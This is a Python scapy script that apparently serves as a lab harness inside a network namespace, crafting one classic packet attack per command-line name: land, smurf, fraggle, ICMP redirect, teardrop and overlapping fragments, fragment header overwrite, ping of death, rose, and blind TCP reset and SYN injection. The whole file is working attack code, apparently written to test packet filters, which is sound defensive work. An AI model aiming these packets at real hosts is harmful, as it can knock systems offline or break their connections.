# Crafted packets, sent with scapy inside a network namespace: crafted.py NAME ATTACKER TARGET. One attack for each name.
import random
import socket
import sys
import time

from scapy.all import ICMP, IP, TCP, UDP, Ether, Raw, conf, fragment, raw, sendp, getmacbyip

name, attacker, target = sys.argv[1:4]
random.seed(1)
conf.verb = 0
DEVICE = 'out'
HELD = 7000  # a service that keeps its connections
mac = getmacbyip(target) or 'ff:ff:ff:ff:ff:ff'


def out(packets, to=None):
    sendp([Ether(dst=to or mac) / p for p in packets], iface=DEVICE, inter=0.002)


def piece(offset, more, payload, proto=17, ident=77):
    return IP(src=attacker, dst=target, id=ident, flags='MF' if more else 0, frag=offset // 8, proto=proto) / Raw(payload)


def connection():
    s = socket.create_connection((target, HELD))
    s.sendall(b'hello')
    time.sleep(0.3)
    return s


def land():
    out([IP(src=target, dst=target) / TCP(sport=80, dport=80, flags='S')])


def smurf():
    out([IP(src='10.99.0.77', dst='10.99.0.255') / ICMP() / Raw(b'x' * 56) for _ in range(30)], 'ff:ff:ff:ff:ff:ff')
    out([IP(src=f'10.99.0.{h}', dst='10.99.0.77') / ICMP(type=0) / Raw(b'x' * 56) for h in range(100, 110)])


def fraggle():
    out([IP(src='10.99.0.77', dst='255.255.255.255') / UDP(sport=7, dport=19) / Raw(b'x') for _ in range(20)], 'ff:ff:ff:ff:ff:ff')


def redirect():
    quoted = IP(src=target, dst='10.99.0.3') / UDP(sport=4000, dport=53)
    out([IP(src='10.99.0.66', dst=target) / ICMP(type=5, code=1, gw=attacker) / quoted])


def teardrop():
    out([piece(0, True, b'A' * 36), piece(24, False, b'B' * 4)])


def overlap():
    out([piece(0, True, raw(UDP(sport=4000, dport=9)) + b'A' * 792), piece(400, True, b'B' * 800)])


def header_overwrite():
    first = raw(TCP(sport=4000, dport=80, flags='A')) + b'A' * 60
    second = raw(TCP(sport=4000, dport=23, flags='S')) + b'B' * 60
    out([piece(0, True, first, 6), piece(0, True, second[:72], 6)])


def tiny():
    out(fragment(IP(src=attacker, dst=target, id=9) / TCP(sport=4000, dport=80, flags='S') / Raw(b'x' * 40), fragsize=8))


def ping_of_death():
    out([piece(65528, False, b'x' * 100, 1)])


def rose():
    out([piece(0, True, b'x' * 1400, 17, i) for i in range(200)])


def blind_reset():
    s = connection()
    port = s.getsockname()[1]
    out([IP(src=attacker, dst=target) / TCP(sport=port, dport=HELD, flags='R', seq=random.getrandbits(32)) for _ in range(40)])
    s.sendall(b'still here')
    time.sleep(0.3)
    s.close()


def blind_syn():
    s = connection()
    port = s.getsockname()[1]
    out([IP(src=attacker, dst=target) / TCP(sport=port, dport=HELD, flags='S', seq=random.getrandbits(32)) for _ in range(10)])
    s.sendall(b'still here')
    time.sleep(0.3)
    s.close()


def icmp_inventory():
    out([IP(src=attacker, dst=target) / ICMP(type=13), IP(src=attacker, dst=target) / ICMP(type=17), IP(src=attacker, dst=target) / ICMP(type=4), IP(src=attacker, dst=target) / ICMP(type=9)])


globals()[name.replace('-', '_')]()
